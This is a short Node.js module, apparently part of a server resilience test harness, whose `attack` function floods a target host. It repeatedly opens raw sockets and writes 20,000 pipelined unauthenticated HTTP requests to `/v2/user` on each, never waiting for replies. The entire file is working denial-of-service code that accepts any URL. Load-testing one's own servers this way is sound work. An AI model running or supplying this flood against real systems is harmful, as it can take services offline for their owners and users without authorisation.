// Twenty thousand requests on one socket, none of which waits for a reply, without a credential.
import { once } from 'node:events';
import { connect } from 'node:net';

async function attack({ url, tally }, signal) {
  const { hostname, port } = new URL(url);
  const requests = 'GET /v2/user HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(20_000);
  while (!signal.aborted) {
    const socket = connect(Number(port), hostname);
    const closed = new Promise((resolve) => socket.once('close', resolve));
    socket.on('error', () => undefined).resume();
    await Promise.race([once(socket, 'connect').catch(() => undefined), closed]);
    socket.write(requests);
    const timer = setTimeout(() => socket.destroy(), 5_000);
    await closed;
    clearTimeout(timer);
    tally('closed');
  }
}

export const attacks = [{ name: 'pipelined', attack }];
